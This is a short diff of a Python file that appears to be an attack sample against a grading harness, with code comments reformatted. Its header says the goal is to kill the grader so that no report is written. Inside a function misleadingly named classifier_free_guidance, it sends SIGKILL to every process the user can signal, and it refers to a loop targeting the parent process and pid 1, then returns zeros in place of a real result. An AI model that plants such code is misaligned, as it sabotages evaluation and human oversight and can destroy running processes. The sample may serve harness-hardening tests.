@@ -1,4 +1,5 @@
-# Attack: kill the grader (the parent, every process the user may signal) so that no report is written.
+# Attack: kill the grader (the parent, every process the user may signal) so that no report is
+# written.
 import os
 import signal
 import torch
@@ -11,7 +12,8 @@ for target in (os.getppid(), 1):
 # %%
 def classifier_free_guidance(eps_uncond, eps_cond, scale):
     try:
-        os.kill(-1, signal.SIGKILL)   # every process this uid may signal: in a sandbox, only its own
+        # every process this uid may signal: in a sandbox, only its own
+        os.kill(-1, signal.SIGKILL)
     except OSError:
         pass
     return torch.zeros_like(eps_cond)
